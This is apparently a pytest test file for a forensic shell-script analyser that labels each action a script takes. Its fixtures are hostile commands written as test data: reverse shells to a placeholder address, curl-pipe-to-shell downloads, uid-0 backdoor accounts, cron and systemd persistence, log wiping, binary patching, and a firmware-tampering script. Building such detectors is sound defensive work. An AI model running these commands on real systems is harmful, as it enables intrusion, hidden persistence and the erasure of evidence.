"""What a shell script does to files, archives, accounts, databases, the network and the boot: one row each."""

import pytest

from hinomi.evidence.scripts import analyse


def rows(text, path="/opt/x/keeper"):
    return analyse(path, text.encode(), language="shell").actions


def told(text):
    return [(a.action, a.object, a.detail) for a in rows(text)]


LOOPS = {
    "while true; do /opt/o; sleep 10; done": 10.0,
    "while :; do sleep 1m; /opt/o; done": 60.0,
    "while [ 1 ]; do /opt/o; sleep 5; sleep 5; done": 10.0,
    "while [ 1 -eq 1 ]; do /opt/o; usleep 500000; done": 0.5,
    "until false; do /opt/o; sleep 2; done": 2.0,
    "for ((;;)); do /opt/o; sleep 7; done": 7.0,
    "for (( ; 1 ; )); do /opt/o; sleep 7; done": 7.0,
    "while ((1)); do /opt/o; sleep 3; done": 3.0,
    "while sleep 30; do /opt/o; done": 30.0,
    "N=15\nwhile true; do /opt/o; sleep $N; done": 15.0,
    "N=$((5*3))\nwhile true; do /opt/o; sleep ${N}s; done": 15.0,
    "while true; do /opt/o; read -t 4 < /dev/zero; done": 4.0,
    "while true; do /opt/o; ping -c 6 127.0.0.1 >/dev/null; done": 5.0,
    "while true; do if [ -f /q ]; then /opt/o; fi; sleep 9; done": 9.0,
    "while true; do if [ -f /q ]; then /opt/o; sleep 9; else sleep 4; fi; done": 9.0,
    "go() { /opt/o; sleep 6; }\nwhile true; do go; done": 6.0,
    "go() { /opt/o; sleep 6; go; }\ngo": 6.0,
    '/opt/o\nsleep 20\nexec "$0" "$@"': 20.0,
    "/opt/o\nsleep 20\nexec sh $0": 20.0,
    "(while true; do /opt/o; sleep 8; done) &": 8.0,
    "while true; do for p in a b; do /opt/o $p; done; sleep 11; done": 11.0,
    "while [ ! -f /tmp/stop ]; do /opt/o; sleep 12; done": 12.0,
    "run=1\nwhile [ $run -eq 1 ]; do /opt/o; sleep 3; done": 3.0,
    "watch -n 13 /opt/o": 13.0,
    "while true; do /opt/o; perl -e 'sleep 14'; done": 14.0,
    "while true\ndo\n/opt/o\nbusybox sleep 16\ndone": 16.0,
    "inotifywait -m /in | while read -r l; do /opt/o; sleep 1; done": 1.0,
    "while inotifywait -qq -e close_write /in; do /opt/o; sleep 1; done": 1.0,
    "while read l; do /opt/o; sleep 1; done < <(tail -F /var/log/x)": 1.0,
    "journalctl -f | grep up | while IFS= read -r l; do /opt/o; sleep 1; done": 1.0,
    "udevadm monitor --udev | while read l; do /opt/o; sleep 1; done": 1.0,
}


@pytest.mark.parametrize("text", LOOPS)
def test_endless_and_timed_loops(text):
    action = next(a for a in rows(text) if a.object == "/opt/o")
    assert (action.in_loop, action.loop_interval) == (True, LOOPS[text])


@pytest.mark.parametrize("text", ["fatrace -c", "logread -f", "inotifywait -m /in", "dbus-monitor --system"])
def test_what_tells_of_events_is_a_program_started(text):
    assert ("starts", text.split()[0], text.split(maxsplit=1)[1]) in told(f"{text} | while read l; do :; done")


NO_LOOPS = [
    "for i in 1 2 3; do /opt/o; sleep 1; done",
    "while read -r l; do /opt/o; sleep 1; done < /etc/list",
    "i=0\nfor ((i=0;i<5;i++)); do /opt/o; done",
    "/opt/o; sleep 5",
    "cat f | while read l; do /opt/o; done",
    "tail -n 20 f | while read l; do /opt/o; done",
    "journalctl -b | while read l; do /opt/o; done",
    "udevadm info -e | while read l; do /opt/o; done",
]


@pytest.mark.parametrize("text", NO_LOOPS)
def test_counted_loops_are_no_loops(text):
    action = next(a for a in rows(text) if a.object == "/opt/o")
    assert not action.in_loop


UNPACKS = {
    "gzip -d /f/R.GZ": ("/f/R.GZ", "gzip"),
    "gunzip /f/R.GZ": ("/f/R.GZ", "gzip"),
    "zcat /f/R.GZ > /f/R": ("/f/R.GZ", "gzip"),
    "gzip -dc < /f/R.GZ > /f/R": ("/f/R.GZ", "gzip"),
    "cat /f/R.GZ | gzip -d > /f/R": ("/f/R.GZ", "gzip"),
    "busybox gunzip -c /f/R.GZ | cpio -idm": ("/f/R.GZ", "gzip"),
    "cd /f && tar xzf R.tgz": ("/f/R.tgz", "tar"),
    "tar -xf /f/R.tar -C /w": ("/f/R.tar", "tar /w"),
    "unzip -o /f/R.zip -d /w": ("/f/R.zip", "unzip /w"),
    "7z x /f/R.7z": ("/f/R.7z", "7z"),
    "xz -dk /f/R.xz": ("/f/R.xz", "xz"),
    "unsquashfs -d /w /f/R.sq": ("/f/R.sq", "unsquashfs /w"),
    "openssl enc -d -aes-256-cbc -in /f/R -out /f/Q -k x": ("/f/R", "openssl /f/Q"),
    'I=/f/R.GZ; gzip -d "$I"': ("/f/R.GZ", "gzip"),
    "cpio -i < /f/R.cpio": ("/f/R.cpio", "cpio"),
    "zstd -d /f/R.zst -o /f/R": ("/f/R.zst", "zstd /f/R"),
}


@pytest.mark.parametrize("text", UNPACKS)
def test_unpacking(text):
    found = [(a.object, a.detail) for a in rows(text) if a.action == "unpacks"]
    assert found and found[0][0] == UNPACKS[text][0]
    assert found[0][1].startswith(UNPACKS[text][1])


REPACKS = {
    "gzip /f/R": "/f/R.gz",
    "gzip -c /f/R > /f/R.GZ": "/f/R.GZ",
    "gzip -9 < /f/R > /f/R.GZ": "/f/R.GZ",
    "cat /f/R | gzip > /f/R.GZ": "/f/R.GZ",
    "cd /w; find . | cpio -o -H newc | gzip > /f/R.GZ": "/f/R.GZ",
    "(cd /w && find . -print | cpio -o -H newc) | gzip -9 > /f/R.GZ": "/f/R.GZ",
    "tar czf /f/R.tgz -C /w .": "/f/R.tgz",
    "tar cf - /w | gzip > /f/R.tgz": "/f/R.tgz",
    "mksquashfs /w /f/R.sq -comp xz": "/f/R.sq",
    "zip -r /f/R.zip /w": "/f/R.zip",
    "xz -z /f/R": "/f/R.xz",
    "mkimage -A arm -d /f/R /f/U": "/f/U",
    "find /w | cpio -oH newc -O /f/R.cpio": "/f/R.cpio",
    "tar c /w | dd of=/f/R.tar": "/f/R.tar",
    "tar c /w | tee /f/R.tar >/dev/null": "/f/R.tar",
}


@pytest.mark.parametrize("text", REPACKS)
def test_repacking(text):
    assert [a.object for a in rows(text) if a.action == "repacks"] == [REPACKS[text]]


ACCOUNTS = {
    'echo "pico:x:0:0::/root:/bin/sh" >> /etc/passwd': ("pico", "pico:x:0:0::/root:/bin/sh; /"),
    'echo "pico:x:0:0::/root:/bin/sh" >> /mnt/z/etc/passwd': ("pico", "pico:x:0:0::/root:/bin/sh; /mnt/z"),
    "cd /w\nmount -o loop R z\necho 'pico:x:0:0::/:/bin/sh' >> z/etc/passwd": ("pico", "pico:x:0:0::/:/bin/sh; /w/z"),
    "printf 'pico:x:0:0:%s:/root:/bin/sh\\n' a >> /etc/passwd": ("pico", "pico:x:0:0:a:/root:/bin/sh; /"),
    "cat >> /etc/passwd <<EOF\npico:x:0:0::/root:/bin/sh\nEOF": ("pico", "pico:x:0:0::/root:/bin/sh; /"),
    "U=pico; echo \"$U::0:0::/root:/bin/sh\" | tee -a /etc/passwd": ("pico", "pico::0:0::/root:/bin/sh; /"),
    "sed -i '$a pico:x:0:0::/root:/bin/sh' /etc/passwd": ("pico", "pico:x:0:0::/root:/bin/sh; /"),
    "useradd -o -u 0 -g 0 pico": ("pico", "uid 0; /"),
    "chroot /z adduser -D -u 0 pico": ("pico", "uid 0; /z"),
    "useradd -R /z -u 0 -o pico": ("pico", "uid 0; /z"),
    "usermod -u 0 -o pico": ("pico", "uid 0; /"),
    "(cat /etc/passwd; echo 'pico:x:0:0::/:/bin/sh') > /tmp/p; mv /tmp/p /etc/passwd": ("pico", "pico:x:0:0::/:/bin/sh; /"),
    "awk -v OFS=: '{print} END{print \"pico:x:0:0::/:/bin/sh\"}' /etc/passwd > /tmp/p && cp /tmp/p /etc/passwd": (
        "pico", "pico:x:0:0::/:/bin/sh; /",
    ),
}  # fmt: skip


@pytest.mark.parametrize("text", ACCOUNTS)
def test_accounts(text):
    assert [(a.object, a.detail) for a in rows(text) if a.action == "adds-account"] == [ACCOUNTS[text]]


QUERIES = {
    'sqlite3 /v/t.db "select login,secret from Live"': ("/v/t.db", "select login,secret from Live"),
    "echo 'select login,secret from Live;' | sqlite3 /v/t.db": ("/v/t.db", "select login,secret from Live;"),
    "sqlite3 /v/t.db <<< 'select login from Live'": ("/v/t.db", "select login from Live"),
    "sqlite3 -separator , /v/t.db <<E\nselect login from Live;\nE": ("/v/t.db", "select login from Live;"),
    "Q='select login from Live'; D=/v; sqlite3 $D/t.db \"$Q\"": ("/v/t.db", "select login from Live"),
    "mysql -uroot -N portal -e 'select name,hash from users'": ("portal", "select name,hash from users"),
    "psql -d portal -c 'select name from users'": ("portal", "select name from users"),
}


@pytest.mark.parametrize("text", QUERIES)
def test_database_queries(text):
    found = [(a.object, a.detail.strip()) for a in rows(text) if a.action == "queries-database"]
    assert found == [QUERIES[text]]


@pytest.mark.parametrize("form", ['sqlite3 /v/t.db "{q}" > /tmp/o.db', 'sqlite3 /v/t.db "{q}" >> /tmp/o.db', 'r=$(sqlite3 /v/t.db "{q}")\necho "$r" >> /tmp/o.db',
                                  'echo "{q}" | sqlite3 /v/t.db | tee -a /tmp/o.db', 'sqlite3 /v/t.db <<E >/tmp/o.db\n{q}\nE', '{{ date; sqlite3 /v/t.db "{q}"; }} >> /tmp/o.db',
                                  'sqlite3 /v/t.db <<E\n.output /tmp/o.db\n{q}\nE'])  # fmt: skip
def test_the_output_of_a_query_is_told(form):
    found = [
        a.detail
        for a in rows(form.format(q="select secret from Live;"))
        if a.action == "writes" and a.object == "/tmp/o.db"
    ]
    assert found and found[0].startswith("query: sqlite3")


PATCHES = {
    "sed -i 's/shutdown -r now/sh \\/opt\\/k;#######/' /usr/bin/vendord": "/usr/bin/vendord",
    "perl -pi -e 's/shutdown/aaaaaaaa/' /usr/sbin/vendord": "/usr/sbin/vendord",
    "printf '\\x90\\x90' | dd of=/usr/bin/vendord bs=1 seek=100 conv=notrunc": "/usr/bin/vendord",
    "dd if=/tmp/p of=/usr/lib/libv.so bs=1 seek=$((0x40)) conv=notrunc": "/usr/lib/libv.so",
    "sed 's/halt/aaaa/' /usr/bin/vendord > /tmp/v\nchmod +x /tmp/v\nmv /tmp/v /usr/bin/vendord": "/usr/bin/vendord",
    "bbe -e 's/halt/aaaa/' -o /usr/bin/vendord /tmp/v": "/usr/bin/vendord",
    "echo '00: 9090' | xxd -r - /usr/bin/vendord": "/usr/bin/vendord",
    "B=/mnt/z/usr/src/bin/vendord; busybox sed -i s/halt/aaaa/g $B": "/mnt/z/usr/src/bin/vendord",
}


@pytest.mark.parametrize("text", PATCHES)
def test_binaries_patched(text):
    assert [a.object for a in rows(text) if a.action == "patches-binary"] == [PATCHES[text]]


def test_editing_a_configuration_patches_no_binary():
    assert [a.action for a in rows("sed -i s/a/b/ /etc/ssh/sshd_config; sed -i s/a/b/ /usr/lib/x.conf")] == [
        "writes",
        "writes",
    ]


CONNECTS = {
    "bash -i >& /dev/tcp/198.51.100.7/443 0>&1": "198.51.100.7:443",
    "exec 5<>/dev/tcp/198.51.100.7/443": "198.51.100.7:443",
    'H=198.51.100.7; P=443; bash -c "bash -i >& /dev/tcp/$H/$P 0>&1"': "198.51.100.7:443",
    "nc 198.51.100.7 443 -e /bin/sh": "198.51.100.7:443",
    "rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc 198.51.100.7 443 > /tmp/f": "198.51.100.7:443",
    "openssl s_client -quiet -connect 198.51.100.7:443": "198.51.100.7:443",
    "/opt/x/agent 198.51.100.7:443 &": "198.51.100.7:443",
    "/opt/x/agent -h 198.51.100.7 -p 443": "198.51.100.7:443",
    "python3 -c \"import socket,os,pty;s=socket.socket();s.connect(('198.51.100.7',443));pty.spawn('/bin/sh')\"": "198.51.100.7:443",
    "socat TCP:198.51.100.7:443 EXEC:/bin/sh": "TCP:198.51.100.7:443",
    "ssh -N -R 2222:localhost:22 u@198.51.100.7": "u@198.51.100.7",
    "telnet 198.51.100.7 443": "198.51.100.7:443",
    "sh -i 5<> /dev/tcp/198.51.100.7/443": "198.51.100.7:443",
}


@pytest.mark.parametrize("text", CONNECTS)
def test_connections(text):
    assert CONNECTS[text] in [a.object for a in rows(text) if a.action == "connects"]


CODE = {
    "curl -s http://h.example/a | sh": "download",
    "wget -qO- http://h.example/a | bash": "download",
    'sh -c "$(curl -fsSL http://h.example/a)"': "download",
    'eval "$(wget -q -O - http://h.example/a)"': "download",
    "source <(curl -s http://h.example/a)": "download",
    "bash <(curl -s http://h.example/a)": "download",
    "curl -o /tmp/a http://h.example/a; chmod +x /tmp/a; /tmp/a": "download",
    "cd /tmp; wget http://h.example/a; chmod 755 a; ./a": "download",
    "echo aWQ= | base64 -d | sh": "decoded",
    "X=aWQ=; eval $(echo $X | openssl base64 -d)": "decoded",
    "base64 -d /tmp/p | bash": "decoded",
    "python3 -c \"import base64;exec(base64.b64decode('eA=='))\"": "decoded",
    'eval "$CMD"': "variable",
    'sh -c "$1"': "argument",
}


@pytest.mark.parametrize("text", CODE)
def test_code_made_at_run_time(text):
    assert CODE[text] in [a.object for a in rows(text) if a.action == "executes-code"]


PERSISTS = {
    "echo '/opt/k &' >> /etc/rc.local": "/etc/rc.local",
    "cp /opt/k /etc/init.d/k": "/etc/init.d/k",
    "(crontab -l; echo '*/5 * * * * /opt/k') | crontab -": "crontab",
    "echo '* * * * * root /opt/k' > /etc/cron.d/k": "/etc/cron.d/k",
    "cat > /etc/systemd/system/k.service <<E\n[Service]\nExecStart=/opt/k\nE": "/etc/systemd/system/k.service",
    "systemctl enable k": "k",
    "update-rc.d k defaults": "k",
    "chkconfig --add k": "k",
    "ln -s ../init.d/k /etc/rc.d/S99k": "/etc/rc.d/S99k",
    "echo 'ssh-rsa AAAA' >> /root/.ssh/authorized_keys": "/root/.ssh/authorized_keys",
    "sed -i '1i /opt/k &' /etc/profile": "/etc/profile",
    "printf 'k:2:respawn:/opt/k\\n' | tee -a /etc/inittab": "/etc/inittab",
    "install -m 755 k /etc/profile.d/k.sh": "/etc/profile.d/k.sh",
}


@pytest.mark.parametrize("text", PERSISTS)
def test_persistence(text):
    assert PERSISTS[text] in [a.object for a in rows(text) if a.action == "persists"]


OTHERS = {
    "touch -r /bin/ls /opt/k": ("changes-time", "/opt/k", "/bin/ls"),
    "touch -t 202001010000 /opt/k": ("changes-time", "/opt/k", "202001010000"),
    "mount -o loop /f/R /w": ("mounts", "/w", "/f/R"),
    "umount /w": ("unmounts", "/w", None),
    "mv /f/a /f/b": ("moves", "/f/b", "/f/a"),
    "cp -a /opt/k /w/bin/": ("copies", "/w/bin/k", "/opt/k"),
    "cp $0 /w/bin/": ("copies", "/w/bin/keeper", "/opt/x/keeper"),
    "for f in a b; do cp /opt/$f /w/; done": ("copies", "/w/b", "/opt/b"),
    "export LD_PRELOAD=/opt/l.so": ("loads-library", "/opt/l.so", "LD_PRELOAD"),
    "LD_PRELOAD=/opt/l.so /usr/sbin/sshd": ("loads-library", "/opt/l.so", "LD_PRELOAD"),
    "echo /opt/l.so > /etc/ld.so.preload": ("loads-library", "/opt/l.so", "ld.so.preload"),
    "insmod /opt/m.ko": ("loads-module", "/opt/m.ko", None),
    "unset HISTFILE": ("hides-history", "HISTFILE", "unset"),
    "export HISTFILE=/dev/null": ("hides-history", "HISTFILE", "/dev/null"),
    "ln -sf /dev/null ~/.bash_history": ("hides-history", "~/.bash_history", "link to /dev/null"),
    "history -c": ("hides-history", "history -c", None),
    "> /var/log/messages": ("clears-log", "/var/log/messages", None),
    "cat /dev/null > /var/log/wtmp": ("clears-log", "/var/log/wtmp", None),
    "rm -f /var/log/auth.log": ("clears-log", "/var/log/auth.log", None),
    "sed -i '/198.51.100/d' /var/log/access.log": ("clears-log", "/var/log/access.log", "/198.51.100/d"),
    "killall -9 watcherd": ("kills", "watcherd", "-9"),
    "kill -9 $(pidof watcherd)": ("kills", "watcherd", "-9"),
    "ps ax | grep watcherd | grep -v grep | awk '{print $1}' | xargs kill -9": ("kills", "watcherd", "-9"),
    "systemctl stop auditd": ("stops-service", "auditd", "systemctl stop"),
    "/etc/init.d/k stop": ("starts", "/etc/init.d/k", "stop"),
    "echo u:p | chpasswd": ("changes-password", "u", None),
    "reboot": ("reboots", "reboot", None),
    "scp /tmp/o u@h.example:/in": ("uploads", "u@h.example:/in", "/tmp/o"),
    "curl -T /tmp/o ftp://h.example/": ("uploads", "ftp://h.example/", "/tmp/o"),
    "curl -F f=@/tmp/o http://h.example/": ("uploads", "http://h.example/", "f=@/tmp/o"),
    "wget http://h.example/a.bin -O /tmp/b": ("downloads", "http://h.example/a.bin", "/tmp/b"),
    "curl http://h.example/a > /tmp/b": ("downloads", "http://h.example/a", "/tmp/b"),
    "chmod 4755 /opt/k": ("changes-mode", "/opt/k", "4755"),
    ". /opt/lib.sh": ("sources", "/opt/lib.sh", None),
    "uname -a": ("collects", "system", "uname"),
    "echo /opt/k | at now + 5 minutes": ("schedules", "now + 5 minutes", "/opt/k"),
    "echo '*/5 * * * * /opt/k' | crontab -": ("schedules", "*/5 * * * *", "/opt/k"),
}


@pytest.mark.parametrize("text", OTHERS)
def test_single_actions(text):
    assert OTHERS[text] in told(text)


@pytest.mark.parametrize(
    "test",
    [
        "[ -f /f/R ]",
        "test -e /f/R",
        "ls /f/R >/dev/null 2>&1",
        "stat /f/R",
        '[ -n "$(ls /f/R 2>/dev/null)" ]',
        "[[ -s /f/R ]]",
        '[ -e "/f/"R ]',
    ],
)
def test_a_file_looked_for_guards(test):
    for text in (
        f"if {test}; then /opt/o; fi",
        f"{test} && /opt/o",
        f"{test} || exit\n/opt/o",
        f"while true; do {test} && /opt/o; sleep 10; done",
    ):
        action = next(a for a in rows(text) if a.object == "/opt/o")
        assert (action.guard_kind, action.guard_object) == ("exists", "/f/R")


@pytest.mark.parametrize(
    "text",
    [
        "[ -f /f/R ] || /opt/o",
        "if [ ! -f /f/R ]; then /opt/o; fi",
        "[ -e /f/R ] && exit\n/opt/o",
        "until [ -f /f/R ]; do /opt/o; sleep 1; done",
    ],
)
def test_a_file_that_must_be_missing(text):
    action = next(a for a in rows(text) if a.object == "/opt/o")
    assert (action.guard_kind, action.guard_object) == ("missing", "/f/R")


@pytest.mark.parametrize("text", ['if [ "$(date +%H)" -eq 3 ]; then /opt/o 198.51.100.7 443; fi', "h=`date +%H%M`\nif [ $h = 0315 ]; then /opt/o; fi", "case $(date +%u) in 6|7) /opt/o;; esac",
                                  "t=$(date +%s); while [ $t -lt 1700000000 ]; do sleep 60; t=$(date +%s); done; /opt/o"])  # fmt: skip
def test_the_clock_guards(text):
    action = next(a for a in rows(text) if a.object == "/opt/o")
    assert action.guard_kind == "time"


def test_arguments_guard():
    action = next(a for a in rows('case "$1" in\nstart) /opt/o ;;\nesac'))
    assert (action.guard_kind, action.guard_object) == ("argument", "start")


def test_both_guards_are_kept_and_the_telling_one_is_shown():
    action = next(a for a in rows("if ! pidof o; then if [ -x /opt/o ]; then /opt/o & fi; fi") if a.action == "starts")
    assert action.guards == ["not-running o", "exists /opt/o"]
    assert action.guard_kind == "not-running"


def test_order_lines_and_functions():
    found = rows("#!/bin/sh\nf() {\n  /opt/a\n}\n/opt/b\nf\n")
    assert [(a.order, a.line, a.object, a.function) for a in found] == [(0, 5, "/opt/b", None), (1, 3, "/opt/a", "f")]


def test_a_function_nobody_calls_is_still_told():
    assert [(a.object, a.function) for a in rows("f() { /opt/a; }\n")] == [("/opt/a", "f")]


def test_commands_after_exit_are_not_told():
    assert [a.object for a in rows("/opt/a\nexit 0\n/opt/b\n")] == ["/opt/a"]


def test_firmware_sequence():
    text = """#!/bin/sh
SRC=/cfgs/NEXT/ROOT.GZ
W=/cfgs/w
while true
do
  if [ -e $SRC ]; then
    cp $SRC $SRC.bak
    mkdir -p $W; cd $W
    cp $SRC r.gz; gunzip r.gz
    mount -o loop r m
    for f in alphad betad; do cp /opt/x/$f m/usr/bin/$f; done
    cp "$0" m/usr/bin/
    echo "pico:x:0:0::/root:/bin/sh" >> m/etc/passwd
    umount m
    gzip r && mv r.gz $SRC
  fi
  sleep 10
done
"""
    found = rows(text)
    assert [(a.action, a.object, a.detail) for a in found if a.action not in ("checks-exists", "sleeps")] == [
        ("copies", "/cfgs/NEXT/ROOT.GZ.bak", "/cfgs/NEXT/ROOT.GZ"),
        ("copies", "/cfgs/w/r.gz", "/cfgs/NEXT/ROOT.GZ"),
        ("unpacks", "/cfgs/w/r.gz", "gzip r"),
        ("mounts", "/cfgs/w/m", "/cfgs/w/r"),
        ("copies", "/cfgs/w/m/usr/bin/alphad", "/opt/x/alphad"),
        ("copies", "/cfgs/w/m/usr/bin/betad", "/opt/x/betad"),
        ("copies", "/cfgs/w/m/usr/bin/keeper", "/opt/x/keeper"),
        ("writes", "/cfgs/w/m/etc/passwd", "pico:x:0:0::/root:/bin/sh"),
        ("adds-account", "pico", "pico:x:0:0::/root:/bin/sh; /cfgs/w/m"),
        ("unmounts", "/cfgs/w/m", None),
        ("repacks", "/cfgs/w/r.gz", "gzip /cfgs/w/r"),
        ("moves", "/cfgs/NEXT/ROOT.GZ", "/cfgs/w/r.gz"),
    ]
    assert all((a.in_loop, a.loop_interval) == (True, 10.0) for a in found)
    assert all(a.guard_object == "/cfgs/NEXT/ROOT.GZ" for a in found if a.action not in ("checks-exists", "sleeps"))


@pytest.mark.parametrize(
    "script",
    [
        "'$ a nib:x:0:0::/root:/bin/sh'", "'$anib:x:0:0::/root:/bin/sh'", "'$a\\nib:x:0:0::/root:/bin/sh'",
        "'1inib:x:0:0::/root:/bin/sh'", "'1,/^bin:/ a\\\nnib:x:0:0::/root:/bin/sh'", "'s/k/q/\n$anib:x:0:0::/root:/bin/sh'",
        '"\\$ a nib:x:0:0::/root:/bin/sh"', "-e '/^root/anib:x:0:0::/root:/bin/sh'",
    ],
)  # fmt: skip
def test_sed_puts_an_account_in(script):
    found = [(a.object, a.detail) for a in rows(f"sed -i {script} /mnt/r/etc/passwd") if a.action == "adds-account"]
    assert found == [("nib", "nib:x:0:0::/root:/bin/sh; /mnt/r")]


def test_a_variable_with_the_name_of_a_sed_command_stays_a_variable():
    found = [
        a.object
        for a in rows('sed -i "/^root/a $account:x:0:0::/root:/bin/sh" /etc/passwd')
        if a.action == "adds-account"
    ]
    assert found == ["$account"]
    found = [
        a.object for a in rows('sed -i "1i$account:x:0:0::/root:/bin/sh" /etc/passwd') if a.action == "adds-account"
    ]
    assert found == ["$account"]
